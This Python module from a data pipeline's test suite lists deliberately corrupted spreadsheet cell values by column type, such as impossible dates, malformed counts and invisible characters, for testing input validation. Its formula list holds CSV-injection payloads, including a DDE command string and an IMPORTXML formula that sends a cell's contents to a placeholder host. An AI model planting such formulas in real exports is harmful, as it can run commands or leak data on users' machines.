"""Corruptions of one cell: what a spreadsheet, a broken export or an attacker makes of a value.

Belongs here: the bad values, by kind of column. Does not: corruptions of rows and of whole files
(`row_corruptions`, `file_corruptions`), what must come of one (`bad_input`).

A value is bad where a person who saw it would not take it for one of its column. What cannot be told
from a good value by anyone (a day that is off by one, two counts exchanged) is no corruption here.
"""

from __future__ import annotations

from collections.abc import Callable

import numpy as np

from htrisk_dagster.faults.corrupted_input.sample import FILE_DAY

_FUTURE = FILE_DAY.replace(year=FILE_DAY.year + 1)
LOST_BYTE = "\udcff"  # a byte that is no UTF-8, as `surrogateescape` carries it

_DAYS: dict[str, Callable[[str], str]] = {
    "year 1010": lambda v: "01/05/1010",
    "year 2090": lambda v: "01/05/2090",
    "a day that is none": lambda v: "02/30/2024",
    "no day at all": lambda v: "soon",
    "a spreadsheet's number of a day": lambda v: "45352",
    "a year of two digits": lambda v: "3/5/24",
    "something after the day": lambda v: f"{v} or so",
    "no value where one is needed": lambda v: "",
}
# Files of any city may write two digits of a year.
_DAYS_ANY_LAYOUT = {name: make for name, make in _DAYS.items() if "two digits" not in name}
_FUTURE_DAY: dict[str, Callable[[str], str]] = {"a future day": lambda v: f"{_FUTURE:%m/%d/%Y}"}
_COUNTS: dict[str, Callable[[str], str]] = {
    "a negative count": lambda v: f"-{v}",
    "separators of thousands": lambda v: f"{int(float(v)):,}",
    "separators in wrong places": lambda v: "1,2,3",
    "a decimal comma": lambda v: "40,5",
    "half a person": lambda v: "12.5",
    "a count in words": lambda v: "many",
    "a count without end": lambda v: "inf",
    "a count of 25 digits": lambda v: "9" * 25,
    "a count of billions": lambda v: "8123456789",
    "a count rounded by a spreadsheet": lambda v: "5.2E+05",
}
_ESTIMATES: dict[str, Callable[[str], str]] = {
    "a negative estimate": lambda v: f"-{v}",
    "a decimal comma": lambda v: v.replace(".", ","),
    "an estimate in words": lambda v: "some",
    "an estimate of billions": lambda v: "8123456789.5",
}
_NEEDED: dict[str, Callable[[str], str]] = {"no value where one is needed": lambda v: ""}
_CODES: dict[str, Callable[[str], str]] = {
    "a letter for a digit": lambda v: v.replace("0", "O") + "O",
    "a code with a fraction": lambda v: f"{v}.5",
    "a code of 12 digits": lambda v: "123456789012",
}
_SMALL_CODES: dict[str, Callable[[str], str]] = {
    "a negative code": lambda v: f"-{v}",
    "a code out of range": lambda v: "999999",
}
_COORDINATES: dict[str, Callable[[str], str]] = {
    "a coordinate in words": lambda v: "north",
    "a coordinate in feet": lambda v: "987654",
    "half a point at zero": lambda v: "0",
    "degrees and minutes": lambda v: "40°49'43\"",
    "a decimal comma": lambda v: v.replace(".", ","),
    "a coordinate without end": lambda v: "inf",
    "the other hemisphere": lambda v: f"{-float(v)}",
    "a coordinate out by a degree": lambda v: f"{float(v) + 1}",
}
_SPOILT: dict[str, Callable[[str], str]] = {
    "a number rounded by a spreadsheet": lambda v: "2.7E+08",
    "a number cut by a stray comma": lambda v: "1,2",
}
_NUMBERS: dict[str, Callable[[str], str]] = {
    **_SPOILT,
    "no value where one is needed": lambda v: "",
}
_CLOCKS: dict[str, Callable[[str], str]] = {
    "the 25th hour": lambda v: "25:10:00",
    "the 61st minute": lambda v: "12:61:00",
    "a time in words": lambda v: "noon",
}
_LABELS: dict[str, Callable[[str], str]] = {"a label of digits": lambda v: "45352"}
_KEYS: dict[str, Callable[[str], str]] = {
    **_SPOILT,
    "a letter for a digit": lambda v: f"{v}O",
    "a negative number": lambda v: f"-{v}",
}
_MOMENTS: dict[str, Callable[[str], str]] = {
    "year 1010": lambda v: "1010-01-05 10:00:00",
    "year 2090": lambda v: "2090-01-05 10:00:00",
    "a day that is none": lambda v: "2024-02-30 10:00:00",
    "no day at all": lambda v: "soon",
    "a spreadsheet's number of a day": lambda v: "45352",
    "something after the day": lambda v: f"{v} or so",
    "no value where one is needed": lambda v: "",
    "a future day": lambda v: f"{_FUTURE} 10:00:00",
}
_UNIX: dict[str, Callable[[str], str]] = {
    "an instant rounded by a spreadsheet": lambda v: "1.7E+12",
    "an instant of 16 digits": lambda v: f"{v}000",
    "an instant of five digits": lambda v: v[:5],
    "year 1010 in milliseconds": lambda v: "-30294000000000",
    "year 2090 in milliseconds": lambda v: "3787000000000",
    "an instant with a fraction": lambda v: f"{v}.5",
    "no day at all": lambda v: "soon",
    "no value where one is needed": lambda v: "",
}
_HOURS: dict[str, Callable[[str], str]] = {
    "the 25th hour": lambda v: "25",
    "an hour before midnight": lambda v: "-1",
    "half an hour": lambda v: "12.5",
    "a time in words": lambda v: "noon",
}
OF_KIND: dict[str, dict[str, Callable[[str], str]]] = {
    "day": _DAYS | _FUTURE_DAY,
    "report_day": _DAYS | _FUTURE_DAY | {"a report before the deed": lambda v: "01/01/2020"},
    "instant": _DAYS | _FUTURE_DAY | {"the 25th hour": lambda v: "03/01/2024 25:10:00"},
    "permit_start": _DAYS,
    "permit_end": _DAYS | {"an end before the start": lambda v: "01/01/2024 04:00:00 PM"},
    "clock": _CLOCKS,
    "count": _COUNTS,
    "estimate": _ESTIMATES,
    "share": _ESTIMATES | {"a share above 100": lambda v: "140.5"},
    "code": _CODES | _SMALL_CODES,
    "precinct": _CODES | _SMALL_CODES | {"precinct 0": lambda v: "0"},
    "precincts": {
        "a precinct in words": lambda v: "45, MTN",
        "a precinct out of range": lambda v: "9, 999",
    },
    "latitude": _COORDINATES,
    "longitude": _COORDINATES,
    "number": _NUMBERS,
    # The first number stands for one that is missing.
    "second_number": {name: make for name, make in _NUMBERS.items() if name not in _NEEDED},
    "year": _CODES | {"year 1010": lambda v: "1010", "year 2090": lambda v: "2090"} | _NEEDED,
    "class": _LABELS | _NEEDED,
    "stop": _NEEDED | {"a stop of digits": lambda v: "45352"},
    "sector": {"a sector of three letters": lambda v: "ABC"},
    "category": {"a category that is none": lambda v: "CRIME"} | _LABELS,
    "borough": {"a borough that is none": lambda v: "BRONXX"} | _LABELS,
    "area": {"an area that is none": lambda v: "45352", "an area in words": lambda v: "A.1 2!"},
    "name": _NEEDED,
    "label": _LABELS,
    "needed_label": _LABELS | _NEEDED,
    "words": {},
    "text": _NEEDED,
    "hour": _HOURS,
    "figure_key": _KEYS | _NEEDED,
    "place_key": _KEYS,
    "nibrs_code": {
        "a code of two digits": lambda v: "13",
        "a code of letters": lambda v: "ABC",
        "a code with a fraction": lambda v: "120.5",
        "a code of 12 digits": lambda v: "123456789012",
    }
    | _NEEDED,
    "state": {"a state of three letters": lambda v: f"{v}X"} | _LABELS | _NEEDED,
    "moment": _MOMENTS,
    "reported_day": _DAYS_ANY_LAYOUT | _FUTURE_DAY,
    "unix_ms": _UNIX,
    "told_day": {name: make for name, make in _DAYS_ANY_LAYOUT.items() if name not in _NEEDED},
    "id": _NUMBERS,
    "word_id": _NUMBERS,
    "number_code": _CODES | {"a negative code": lambda v: f"-{v}"},
    "area_code": _CODES | _SMALL_CODES | {"an area in words": lambda v: "A.1 2!"},
    "case_year": _CODES | {"year 1010": lambda v: "1010", "year 2090": lambda v: "2090"},
    "answer": {
        "an answer that is none": lambda v: "2",
        "an answer in words": lambda v: "maybe",
        "half an answer": lambda v: "0.5",
        "a decimal comma": lambda v: "1,0",
    },
    "case_label": {"a label that is none": lambda v: f"{v}X"} | _LABELS,
    "majority": {"a label that is none": lambda v: f"{v}X"} | _LABELS,
    "age_band": {
        "a band upside down": lambda v: "17--9",
        "a band without an end": lambda v: "9--",
        "an age": lambda v: "34",
        "a band in words": lambda v: "young",
        "a band of centuries": lambda v: "90--170",
    },
    "months_band": {
        "a band upside down": lambda v: "24--13",
        "a band in words": lambda v: "long",
        "a negative band": lambda v: "-5",
        "something after the band": lambda v: f"{v} or so",
    },
    "country": {
        "a country that is none": lambda v: "Atlantis",
        **_LABELS,
        "a country of signs": lambda v: "A.1 2!",
    },
}
"""Kind of column to its bad values, each made of the good one."""

ANYWHERE: dict[str, Callable[[str], str]] = {
    "a formula": lambda v: f'=HYPERLINK("http://example.org","{v}")',
    "a formula that begins with a plus": lambda v: f"+{v}+1",
    "a formula that begins with a minus": lambda v: f"-{v}-1",
    "a formula that begins with an at": lambda v: f"@SUM({v})",
    "a NUL byte": lambda v: f"{v[:1]}\0{v[1:]}",
    "an escape character": lambda v: f"{v}\x1b[2J",
    "a blank of no width": lambda v: f"{v[:1]}\u200b{v[1:]}",
    "a byte order mark in the middle": lambda v: f"\ufeff{v}",
    "a huge cell": lambda v: v + "x" * 200_000,
}
"""Bad in every column, whatever its kind."""
IN_BYTES: dict[str, Callable[[str], str]] = {
    "a letter that is not UTF-8": lambda v: v + LOST_BYTE,
}
"""Bad everywhere in a file that is not JSON, which can hold no such letter."""
Drawing = Callable[[np.random.Generator, str], str]
_UNSEEN = "\0\x01\x07\x08\x0e\x1b\x7f\x80\x9f\u200b\u200e\u202e\u2060\u2066\ufeff\ufffe"
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1,1)", "+1+1+cmd", "-2+3+cmd", "\t=1+1", "＝1+1", "=A1", "@x",
    "=IMPORTXML(CONCAT(\"http://example.org/\",A1))",
)  # fmt: skip


def _unseen(rng: np.random.Generator, value: str) -> str:
    text = value if len(value) > 1 else f"{value}x{value}x"
    at = int(rng.integers(1, len(text)))
    return f"{text[:at]}{_UNSEEN[int(rng.integers(len(_UNSEEN)))]}{text[at:]}"


def _long_ago(rng: np.random.Generator, value: str) -> str:
    return f"0{int(rng.integers(1, 10))}/05/{int(rng.integers(1000, 1990))}"


def _to_come(rng: np.random.Generator, value: str) -> str:
    return f"0{int(rng.integers(1, 10))}/05/{int(rng.integers(2090, 9999))}"


def _elsewhere(rng: np.random.Generator, value: str) -> str:
    return f"{float(value) + float(rng.choice((-1, 1)) * rng.uniform(1.0, 40.0)):.6f}"


DRAWN_ANYWHERE: dict[str, Drawing] = {
    "a formula of its kind": lambda rng, v: _FORMULAS[int(rng.integers(len(_FORMULAS)))],
    "a letter that cannot be seen": _unseen,
    "a long cell": lambda rng, v: v + "x" * int(rng.integers(1_001, 20_000)),
}
"""Bad in every column, drawn anew each time."""
_DRAWN_DAYS: dict[str, Drawing] = {"a year long ago": _long_ago, "a year to come": _to_come}
_DRAWN_COUNTS: dict[str, Drawing] = {
    "a negative count drawn": lambda rng, v: f"-{int(rng.integers(1, 1_000_000))}"
}
_DRAWN_POINTS: dict[str, Drawing] = {"a point elsewhere": _elsewhere}
DRAWN: dict[str, dict[str, Drawing]] = {
    **dict.fromkeys(
        (
            "day",
            "report_day",
            "instant",
            "permit_start",
            "permit_end",
            "moment",
            "reported_day",
            "told_day",
        ),
        _DRAWN_DAYS,
    ),
    **dict.fromkeys(("count", "estimate", "share"), _DRAWN_COUNTS),
    **dict.fromkeys(("latitude", "longitude"), _DRAWN_POINTS),
}
"""Kind of column to what is drawn anew each time."""
FREE_TEXT_MAY = frozenset(
    name for name in (*ANYWHERE, *DRAWN_ANYWHERE) if name.startswith(("a formula", "a long"))
)
"""What does no harm in a text that is read and not kept."""
